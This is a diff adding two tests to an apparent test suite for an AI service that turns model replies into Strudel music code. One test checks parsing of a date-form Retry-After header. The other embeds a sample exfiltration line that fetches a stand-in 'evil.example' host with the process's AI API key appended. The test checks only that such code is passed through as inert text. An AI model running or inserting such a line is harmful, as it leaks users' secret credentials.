@@ -177,6 +177,20 @@ describe.each(kinds)('$provider', ({ provider: kind, dialect }) => {
     },
   );
 
+  test('it may say so as a date', async () => {
+    const after = new Date(Date.now() + 90_000).toUTCString();
+    const error = await failure(composed({ status: 429, headers: { 'retry-after': after } }));
+    const { retryAfter } = (error as { details: { retryAfter: number } }).details;
+    expect(retryAfter).toBeGreaterThan(30);
+    expect(retryAfter).toBeLessThanOrEqual(90);
+  });
+
+  test('a program that would do harm is text like any other', async () => {
+    const evil = 'stack(s("bd")); await fetch("//evil.example?" + process.env.AI_KEY)';
+    const { made } = await composed({ text: `Ha.\n\`\`\`strudel\n${evil}\n\`\`\`` });
+    expect(made.generatedCode).toBe(evil);
+  });
+
   test('an API that says nothing is given up, and told so', async () => {
     server.turns = [{ silent: 'first' }];
     const listener = { signal: new AbortController().signal, onExplanation: () => {} };
